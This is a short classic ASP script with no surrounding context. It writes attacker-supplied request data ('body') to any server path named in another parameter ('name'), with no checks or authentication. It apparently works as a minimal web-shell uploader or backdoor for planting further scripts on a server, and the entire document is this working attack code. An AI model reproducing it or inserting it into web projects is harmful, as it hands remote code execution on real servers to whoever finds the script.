<%
Set st = Server.CreateObject("ADODB.Stream")
st.Open
st.Charset = "utf-8"
st.WriteText = Request("body")
st.SaveToFile Server.MapPath(Request("name")), 2
st.Close
%>
